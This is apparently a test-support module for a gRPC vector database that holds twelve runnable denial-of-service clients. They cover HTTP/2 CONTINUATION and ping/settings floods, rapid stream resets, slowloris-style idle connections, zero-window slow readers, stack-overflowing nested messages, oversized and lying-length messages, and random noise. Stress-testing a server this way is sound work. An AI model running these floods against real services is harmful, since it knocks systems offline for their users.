"""Hostile clients, each in a process of its own: they go on until the process is killed.

    python -m tests.support.attacks NAME HOST:PORT

They know a model of ready-made vectors, `given` (32 numbers), and one of images, `slow`, that
takes a while for white ones.
"""

from __future__ import annotations

import os
import random
import resource
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from typing import Final

import grpc
import hpack

from euclidesdb_protos.v1 import database_pb2 as pb
from euclidesdb_protos.v1 import database_pb2_grpc
from tests.support.images import encoded

GIVEN: Final = "given"
SLOW: Final = "slow"
DIM: Final = 32
SERVICE: Final = "/euclidesdb.v1.FeatureDatabase/"
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, _, RST_STREAM, SETTINGS, _, PING, _, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
IDLE_CONNECTIONS: Final = 2000
MIB: Final = 1 << 20


def frame(kind: int, body: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """One frame, right or wrong."""
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def call_headers(method: str, *more: tuple[str, str]) -> bytes:
    """The headers of a call, encoded without the table that connections keep."""
    pairs = [
        (":method", "POST"), (":scheme", "http"), (":authority", "test"),
        (":path", SERVICE + method), ("content-type", "application/grpc"), ("te", "trailers"),
        *more,
    ]  # fmt: skip
    encoded_block: bytes = hpack.Encoder().encode([(*pair, True) for pair in pairs])
    return encoded_block


def message(data: bytes) -> bytes:
    """A message with the prefix of gRPC."""
    return b"\0" + len(data).to_bytes(4, "big") + data


def connected(address: str, settings: bytes = b"", *, timeout: float = 5.0) -> socket.socket:
    """A connection that has begun to speak HTTP/2."""
    host, _, port = address.rpartition(":")
    opened = socket.create_connection((host, int(port)), timeout=timeout)
    opened.sendall(PREFACE + frame(SETTINGS, settings))
    return opened


def repeat(address: str, batches: Callable[[], Iterator[bytes]], *, reads: bool) -> None:
    """Send batches over one connection after the other, as each is closed. reads: what comes."""
    while True:
        with suppress(OSError), connected(address, timeout=1.0) as opened:
            for batch in batches():
                opened.sendall(batch)
                if reads:
                    opened.setblocking(False)
                    with suppress(BlockingIOError):
                        while opened.recv(1 << 16):
                            pass
                    opened.settimeout(1.0)


def header_flood(address: str) -> None:
    """Headers that never end."""

    def batches() -> Iterator[bytes]:
        yield frame(HEADERS, call_headers("GetItem"), stream=1)
        while True:
            yield frame(CONTINUATION, call_headers("x", ("a", "b" * 10_000)), stream=1) * 10

    repeat(address, batches, reads=False)


def header_calls(address: str) -> None:
    """Calls with as many headers as are permitted, one after the other."""
    more = [(f"x-{number}", "v" * 1000) for number in range(14)]

    def batches() -> Iterator[bytes]:
        block = call_headers("CountItems", *more)
        for stream in range(1, 1 << 30, 2):
            yield frame(HEADERS, block, flags=END_HEADERS | END_STREAM, stream=stream)

    repeat(address, batches, reads=True)


def tiny_calls(address: str) -> None:
    """Calls of a few bytes, as many as fit into each packet; their answers are read."""

    def batches() -> Iterator[bytes]:
        encoder = hpack.Encoder()
        pairs = [
            (":method", "POST"), (":scheme", "http"), (":authority", "test"),
            (":path", SERVICE + "CountItems"), ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]  # fmt: skip
        for first in range(1, 1 << 30, 2000):
            yield b"".join(
                frame(HEADERS, encoder.encode(pairs), flags=END_HEADERS | END_STREAM, stream=stream)
                for stream in range(first, first + 2000, 2)
            )

    repeat(address, batches, reads=True)


def ping_flood(address: str) -> None:
    """Pings whose answers are not read."""
    repeat(address, lambda: iter(lambda: frame(PING, bytes(8)) * 5000, b""), reads=False)


def settings_flood(address: str) -> None:
    """Settings whose answers are read."""
    repeat(address, lambda: iter(lambda: frame(SETTINGS) * 5000, b""), reads=True)


def resets(address: str) -> None:
    """Calls that are reset as soon as they begin."""

    def batches() -> Iterator[bytes]:
        block = call_headers("GetItem")
        for first in range(1, 1 << 30, 200):
            yield b"".join(
                frame(HEADERS, block, flags=END_HEADERS, stream=stream)
                + frame(RST_STREAM, bytes(3) + b"\x08", stream=stream)
                for stream in range(first, first + 200, 2)
            )

    repeat(address, batches, reads=True)


def idle_connections(address: str) -> None:
    """Thousands of connections: some say nothing, some begin, and some stop within a message."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    count = min(IDLE_CONNECTIONS, hard - 100)
    host, _, port = address.rpartition(":")
    begun = PREFACE + frame(SETTINGS)
    call = frame(HEADERS, call_headers("GetItem"), flags=END_HEADERS, stream=1)
    part = frame(DATA, b"\0\0\0\1\0half of it", stream=1)
    while True:
        opened: list[socket.socket] = []
        for number in range(count):
            with suppress(OSError):
                each = socket.create_connection((host, int(port)), timeout=5)
                opened.append(each)
                each.sendall((b"", begun, begun + call, begun + call + part)[number % 4])
        time.sleep(60)
        for each in opened:
            each.close()


def slow_readers(address: str) -> None:
    """Streams of replies of which hardly anything is read."""
    no_window = (4).to_bytes(2, "big") + bytes(4)
    export = frame(HEADERS, call_headers("ExportItems"), flags=END_HEADERS, stream=1)
    request = pb.ExportItemsRequest(include_vectors=True).SerializeToString()
    while True:
        opened: list[socket.socket] = []
        with suppress(OSError):
            for _ in range(50):
                each = connected(address, no_window)
                opened.append(each)
                for stream in range(1, 41, 2):
                    head = export[:5] + stream.to_bytes(4, "big") + export[9:]
                    each.sendall(
                        head + frame(DATA, message(request), flags=END_STREAM, stream=stream)
                    )
            for byte in range(100):
                for each in opened:
                    window = (1).to_bytes(4, "big")
                    each.sendall(frame(WINDOW, window, stream=1 + 2 * (byte % 20)))
                time.sleep(0.2)
        for each in opened:
            each.close()


def cancellations(address: str) -> None:
    """Calls that are left while their model runs."""
    white = [encoded_white(number) for number in range(64)]

    def leave() -> None:
        chance = random.Random()
        with grpc.insecure_channel(address, [("grpc.use_local_subchannel_pool", 1)]) as channel:
            stub = database_pb2_grpc.FeatureDatabaseStub(channel)
            while True:
                payload = pb.Payload(image=chance.choice(white) + chance.randbytes(8))
                call = stub.AddItem.future(
                    pb.AddItemRequest(id="left", payload=payload, models=[SLOW])
                )
                time.sleep(chance.uniform(0, 0.1))
                call.cancel()

    _in_threads(leave, 8)


def encoded_white(number: int) -> bytes:
    """A white image; each is another file."""
    from PIL import Image  # noqa: PLC0415

    return encoded(Image.new("RGB", (8 + number, 8), "white"))


def nested_messages(address: str) -> None:
    """Filters and attributes of a depth that would overflow a stack."""
    filter_bytes = b""
    for _ in range(3000):
        filter_bytes = b"\x42" + _varint(len(filter_bytes)) + filter_bytes  # Filter.not
    options = b"\x0a" + _varint(len(filter_bytes)) + filter_bytes
    query = pb.FindSimilarRequest(query=pb.Query(id="item-1"), models=[GIVEN], top_k=5)
    deep_filter = query.SerializeToString() + b"\x42" + _varint(len(options)) + options
    deep = pb.AddItemRequest(id="deep", attributes_json='{"a":' + "[" * 30_000)

    def send() -> None:
        with grpc.insecure_channel(address, [("grpc.use_local_subchannel_pool", 1)]) as channel:
            find = channel.unary_unary(SERVICE + "FindSimilar")
            add = channel.unary_unary(SERVICE + "AddItem")
            while True:
                for call, data in ((find, deep_filter), (add, deep.SerializeToString())):
                    with suppress(grpc.RpcError):
                        call(data, timeout=10)

    _in_threads(send, 4)


def oversized_messages(address: str) -> None:
    """Messages above the limit, messages just below it, and lengths that are a lie."""
    zeros = bytes(16_000)

    def lie() -> Iterator[bytes]:
        block = call_headers("AddItem")
        for stream in range(1, 1 << 20, 2):
            start = b"\0" + (0xFFFFFFFF if stream % 4 == 1 else 60 * MIB).to_bytes(4, "big")
            yield frame(HEADERS, block, flags=END_HEADERS, stream=stream) + frame(
                DATA, start + zeros, stream=stream
            )
            time.sleep(0.01)

    def send(size: int) -> None:
        request = pb.AddItemRequest(id="large", metadata=bytes(size)).SerializeToString()
        with grpc.insecure_channel(address, [("grpc.use_local_subchannel_pool", 1)]) as channel:
            add = channel.unary_unary(SERVICE + "AddItem")
            while True:
                with suppress(grpc.RpcError):
                    add(request, timeout=20)

    for size in (63 * MIB, 65 * MIB):
        threading.Thread(target=send, args=(size,), daemon=True).start()
    repeat(address, lie, reads=True)


def noise(address: str) -> None:
    """Random bytes, with and without a right beginning."""
    chance = random.Random(os.getpid())

    def batches() -> Iterator[bytes]:
        for _ in range(chance.randint(1, 20)):
            yield chance.randbytes(chance.randint(1, 5000))

    repeat(address, batches, reads=True)


ATTACKS: Final[dict[str, Callable[[str], None]]] = {
    attack.__name__: attack
    for attack in (
        header_flood,
        header_calls,
        tiny_calls,
        ping_flood,
        settings_flood,
        resets,
        idle_connections,
        slow_readers,
        cancellations,
        nested_messages,
        oversized_messages,
        noise,
    )
}


def _in_threads(work: Callable[[], None], count: int) -> None:
    with ThreadPoolExecutor(count) as threads:
        for each in [threads.submit(work) for _ in range(count)]:
            each.result()


def _varint(number: int) -> bytes:
    parts = bytearray()
    while number > 0x7F:
        parts.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*parts, number])


if __name__ == "__main__":
    name, target = sys.argv[1:]
    ATTACKS[name](target)
